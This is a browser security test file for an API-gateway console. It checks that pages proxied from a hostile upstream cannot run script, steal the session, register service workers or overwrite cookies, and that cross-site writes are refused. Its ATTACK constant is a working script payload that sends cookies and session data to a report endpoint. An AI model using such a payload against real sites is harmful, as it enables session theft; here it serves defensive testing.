import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type GatehouseServer, startGatehouse } from './support/gatehouse-server'
import { callApi, expect, signIn, test } from './support/test'

/** What a page of an attacker would try if it shared the console's origin. */
const ATTACK = `<!doctype html><title>upstream</title><h1>upstream page</h1><script>
  const tell = (what) => fetch('REPORT?' + encodeURIComponent(what), { mode: 'no-cors' })
  tell('script ran')
  tell('cookie:' + document.cookie)
  fetch('/api/v1/session').then((r) => r.text()).then((t) => tell('session:' + t))
  navigator.serviceWorker.register('/gateway/hostile001/prod/worker.js', { scope: '/' }).then(() => tell('worker'))
  document.cookie = 'gatehouse_stolen=1; path=/'
</script>`

let upstream: Server
let server: GatehouseServer
const reports: string[] = []
const seen: IncomingMessage[] = []

test.beforeAll(async () => {
  upstream = createServer((request, response) => {
    if (request.url?.startsWith('/report')) reports.push(decodeURIComponent(request.url))
    else seen.push(request)
    const origin = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`
    if (request.url?.startsWith('/worker.js')) {
      response.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' }).end('self.x = 1')
      return
    }
    response
      .writeHead(
        200,
        [
          ['Content-Type', 'text/html'],
          ['Set-Cookie', 'gatehouse_evil.session=replaced; Path=/; Domain=localhost'],
          ['Set-Cookie', '__Host-gatehouse.csrf=replaced; Path=/; Secure'],
          ['Set-Cookie', 'basket=7; Path=/; Domain=localhost'],
          ['Service-Worker-Allowed', '/'],
          ['Clear-Site-Data', '"cookies", "storage"'],
          ['Content-Security-Policy', "default-src * 'unsafe-inline'"],
        ].flat(),
      )
      .end(ATTACK.replace('REPORT', `${origin}/report`))
  })
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
  server = await startGatehouse({ env: { GATEHOUSE_EGRESS_ALLOW: '127.0.0.1' } })
  const uri = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/{proxy}`
  const integration = {
    type: 'http_proxy',
    httpMethod: 'ANY',
    uri,
    requestParameters: { 'integration.request.path.proxy': 'method.request.path.proxy' },
  }
  const path = {
    parameters: [{ name: 'proxy', in: 'path', required: true, schema: { type: 'string' } }],
    'x-amazon-apigateway-any-method': { responses: {}, 'x-amazon-apigateway-integration': integration },
  }
  const { status, value } = await callApi(server, 'PATCH', '/workspace', {
    gatehouse: 1,
    apis: [
      {
        id: 'hostile001',
        account: '111122223333',
        region: 'us-east-1',
        protocol: 'REST',
        stages: [{ name: 'prod' }],
        definition: { openapi: '3.0.1', info: { title: 'hostile', version: '1' }, paths: { '/{proxy+}': path } },
      },
    ],
  })
  expect(value).toMatchObject({ plan: { create: [{ kind: 'api', key: 'hostile001' }] } })
  expect(status).toBe(200)
})

test.afterAll(async () => {
  await server?.stop()
  upstream?.close()
})

test('an upstream page under the path form neither runs script nor reaches the console session', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: server.url })
  const page = await context.newPage()
  await signIn(page, server.admin)
  const before = await context.cookies()

  await page.goto('/gateway/hostile001/prod/page')
  await expect(page.getByRole('heading', { name: 'upstream page' })).toBeVisible()
  await page.goto('/gateway/hostile001/prod/again')
  await expect(page.getByRole('heading', { name: 'upstream page' })).toBeVisible()

  expect(reports).toEqual([])
  const after = await context.cookies()
  const ours = (cookies: typeof before) =>
    cookies.filter((cookie) => /gatehouse/i.test(cookie.name)).map(({ name, value, path }) => ({ name, value, path }))
  expect(ours(after)).toEqual(ours(before))
  expect(after.find((cookie) => cookie.name === 'basket')).toMatchObject({ path: '/gateway/hostile001/prod', domain: 'localhost' })
  for (const request of seen) expect(request.headers.cookie ?? '').not.toMatch(/gatehouse/i)

  await page.goto('/')
  await expect(page.getByRole('navigation').first()).toBeVisible()
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0)
  await context.close()
})

test('the console neither loads a script nor a worker from an upstream, and is never framed', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: server.url })
  const page = await context.newPage()
  await signIn(page, server.admin)
  const refusals: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refusals.push(message.text())
  })
  // Markup, as an injection would be: a script made by a trusted script inherits its trust.
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<iframe name="probe"></iframe>')
    const frame = document.querySelector<HTMLIFrameElement>('iframe[name=probe]')
    if (frame) frame.srcdoc = '<script src="/gateway/hostile001/prod/worker.js"></' + 'script>'
  })
  await expect.poll(() => refusals.length).toBeGreaterThan(0)
  const registration = await page.evaluate(() =>
    navigator.serviceWorker.register('/gateway/hostile001/prod/worker.js', { scope: '/' }).then(
      () => 'registered',
      () => 'refused',
    ),
  )
  expect(registration).toBe('refused')
  const response = await page.request.get('/')
  expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  await context.close()
})

test('a request from another site changes nothing', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: server.url })
  const page = await context.newPage()
  await signIn(page, server.admin)
  const crossSite = { 'Content-Type': 'application/json', 'Sec-Fetch-Site': 'cross-site', Origin: 'http://evil.example' }
  const refused = await page.request.patch('/api/v1/workspace', { headers: crossSite, data: { gatehouse: 1 } })
  expect(refused.status()).toBe(403)
  const form = await page.request.fetch('/api/v1/workspace', {
    method: 'PATCH',
    headers: { 'Content-Type': 'text/plain', 'Sec-Fetch-Site': 'same-origin' },
    data: '{"gatehouse":1}',
  })
  expect(form.status()).toBe(415)
  await context.close()
})
